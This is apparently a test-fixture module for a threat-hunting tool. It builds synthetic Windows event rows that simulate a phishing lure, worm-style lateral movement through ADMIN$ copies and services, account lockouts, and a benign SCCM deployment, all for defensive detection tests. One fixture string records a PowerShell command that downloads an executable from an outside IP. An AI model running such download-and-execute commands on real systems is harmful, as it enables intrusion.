"""Small constructed cases for the hunt tests: rows of the event model, written to a real case file."""

from __future__ import annotations

import itertools
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from wormsign.ingest.base import rows_to_table
from wormsign.store import Case

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
DIGEST = "d" * 64
_rec = itertools.count(1)


def ip(host: str) -> str:
    """A stable address per host (ws-07 -> 10.0.0.7, dc-01 -> 10.0.8.1, sccm-01 -> 10.0.9.1)."""
    n = int(host.rsplit("-", 1)[1])
    net = {"sccm": 9, "dc": 8}.get(host.rsplit("-", 1)[0], 0)
    return f"10.0.{net}.{n}"


def ev(minutes: float, host: str, kind: str, code: str, **fields: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "ts": T0 + timedelta(minutes=minutes), "host": host, "kind": kind, "event.code": code,
        "host.ip": ip(host) if host[-1].isdigit() else None,
        "src.file": "constructed", "src.record": next(_rec), "src.digest": DIGEST, "src.format": "test",
    }
    for k, v in fields.items():
        row[k.replace("__", ".").replace("_", ".") if "__" in k else k] = v
    return row


def copy_exec(minutes: float, src: str, dst: str, name: str, run_as: str | None = None) -> list[dict[str, Any]]:
    """``src`` writes ``name`` to ADMIN$ of ``dst``, then a service starts it (under ``run_as``:
    worms rename the file per copy, so the service may name another file)."""
    return [
        ev(minutes, dst, "share", "5145", **{"source.ip": ip(src), "share.name": "\\\\*\\ADMIN$",
           "share.path": name, "share.access_mask": "0x120196", "user.name": "svc-admin",
           "file.path": "C:\\Windows\\" + name}),
        ev(minutes + 0.5, dst, "service", "7045", **{"service.name": "svc" + name[:4],
           "service.image": "%SystemRoot%\\" + (run_as or name), "user.name": "LocalSystem"}),
    ]


def lure(minutes: float, host: str) -> list[dict[str, Any]]:
    """Mail client -> Word -> PowerShell download on ``host``."""
    return [
        ev(minutes, host, "process", "1", **{"process.executable": "C:\\Program Files\\Office\\WINWORD.EXE",
           "process.parent.executable": "C:\\Program Files\\Office\\OUTLOOK.EXE", "process.command_line": "WINWORD invoice.doc"}),
        ev(minutes + 1, host, "process", "1", **{"process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
           "process.parent.executable": "C:\\Program Files\\Office\\WINWORD.EXE",
           "process.command_line": "powershell -enc ... DownloadFile('http://203.0.113.7/x.exe')"}),
    ]


def outbreak_rows() -> list[dict[str, Any]]:
    """ws-01 phished; ws-01 -> ws-02, ws-03; ws-02 -> ws-04, ws-05; ws-04 -> ws-06 (renamed copies);
    ws-04 guesses passwords and locks two accounts; ws-07 receives a drop that never runs."""
    rows = lure(0, "ws-01")
    rows += copy_exec(60, "ws-01", "ws-02", "a1.exe", "b1.exe") + copy_exec(70, "ws-01", "ws-03", "a2.exe")
    rows += copy_exec(120, "ws-02", "ws-04", "a3.exe") + copy_exec(125, "ws-02", "ws-05", "a4.exe", "zz.exe")
    rows += copy_exec(180, "ws-04", "ws-06", "a5.exe")
    rows.append(ev(200, "ws-07", "share", "5145", **{"source.ip": ip("ws-04"), "share.name": "\\\\*\\ADMIN$",
                "share.path": "a6.exe", "share.access_mask": "0x2", "user.name": "svc-admin"}))
    for i, acct in enumerate(["alice", "bob", "carol"]):
        rows.append(ev(190 + i, "dc-01", "auth", "4740", **{"user.name": acct, "source.domain": "WS-04"}))
    return rows


def deployer_rows() -> list[dict[str, Any]]:
    """sccm-01 pushes ccmsetup.exe to five hosts on two days and each runs it as a service."""
    rows: list[dict[str, Any]] = [ev(0, "sccm-01", "generic", "0")]  # the server logs too (its address)
    for day in (0, 1):
        for n in range(10, 15):
            rows += copy_exec(day * 1440 + 300 + n, "sccm-01", f"ws-{n:02d}", "ccmsetup.exe")
    return rows


def make_case(path: Path, rows: list[dict[str, Any]]) -> Case:
    case = Case.open(str(path))
    case.append_events(rows_to_table(rows))
    return case


#: What :func:`hunt_each` gives per recording: its alerts, its incidents, its ingest report.
Hunted = dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]], Any]]


def hunt_each(tmp: Path, files: dict[str, Path]) -> Hunted:
    """Each real recording ingested into a fresh case of its own and hunted, as a responder who
    was handed that one recording would (``tmp`` is a folder for the cases)."""
    from wormsign.hunt import hunt
    from wormsign.ingest import ingest_paths

    out: Hunted = {}
    for i, (key, path) in enumerate(files.items()):
        with Case.open(str(tmp / f"c{i}.duckdb")) as case:
            rep = ingest_paths([str(path)], case, workers=1)
            res = hunt(case)
            out[key] = (res.alerts, res.incidents, rep)
    return out
